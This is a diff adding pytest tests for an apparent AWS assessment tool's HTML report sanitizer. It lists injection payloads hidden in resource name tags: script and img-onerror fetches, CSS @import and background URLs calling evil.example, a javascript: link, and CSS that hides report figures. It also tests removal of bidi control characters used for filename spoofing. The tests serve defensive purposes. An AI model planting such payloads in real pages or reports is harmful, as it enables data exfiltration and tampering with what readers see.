@@ -76,3 +76,34 @@ def test_a_missing_github_repo_is_bad_input_before_any_work(tmp_path: Path) -> N
         load_params_file(_params(tmp_path, "github_repo: no-such-checkout\n"))
     (tmp_path / "repo").mkdir()
     assert load_params_file(_params(tmp_path, "github_repo: repo\n")).github_repo == tmp_path / "repo"
+
+
+NAME_TAG_ATTACKS = [
+    '<style>@import url("https://evil.example/x.css");</style>',
+    "<style>.kpi,.saving{display:none}</style>",
+    "<style>#T_a td{background:url(https://evil.example/p.gif)}</style>",
+    '<img src=x onerror="fetch(\'https://evil.example\')">',
+    "<script>fetch('https://evil.example')</script>",
+    '<a href="javascript:alert(1)">x</a>',
+]
+
+
+@pytest.mark.parametrize("attack", NAME_TAG_ATTACKS)
+def test_the_report_sanitizer_lets_no_style_script_handler_or_url_through(attack: str) -> None:
+    from awsassess.report.sanitize import clean_html
+
+    out = clean_html(f"<p>VPC {attack}</p>")
+    lowered = out.lower()
+    assert "<style" not in lowered and "<script" not in lowered and "onerror=" not in lowered.replace(" ", "")
+    assert "javascript:" not in lowered.split("&lt;")[0] or "<a" not in lowered
+    assert "evil.example" not in lowered or "&lt;" in lowered  # shown as text at most, never markup
+
+
+def test_styler_css_survives_and_bidi_controls_are_removed() -> None:
+    import pandas as pd
+    from awsassess.report.sanitize import clean_html
+
+    html = pd.DataFrame({"a": [1.5]}).style.set_properties(**{"text-align": "right"}).to_html()
+    out = clean_html(html)
+    assert "<style" in out and "text-align: right" in out
+    assert clean_html("invoice\u202egnp.exe\u2066x\u2069") == "invoicegnp.exex"
